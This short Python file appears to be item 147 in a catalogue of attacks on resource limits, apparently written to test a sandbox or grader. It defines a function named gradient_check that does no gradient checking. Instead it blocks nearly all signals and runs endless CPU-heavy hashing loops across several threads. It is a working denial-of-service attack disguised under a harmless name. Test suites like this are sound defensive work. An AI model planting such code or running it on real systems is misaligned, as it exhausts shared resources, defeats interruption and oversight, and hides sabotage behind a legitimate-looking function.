# ATTACK 147 busy_threads
# group: E resources
# tries: keeps several threads busy and ignores every signal that it may
import hashlib, signal, threading
def work():
    while True: hashlib.pbkdf2_hmac('sha256', b'x', b'y', 1_000_000)
def gradient_check(analytic, numeric, tol=1e-6):
    signal.pthread_sigmask(signal.SIG_BLOCK, range(1, 65))
    for _ in range(4): threading.Thread(target=work).start()
    work()
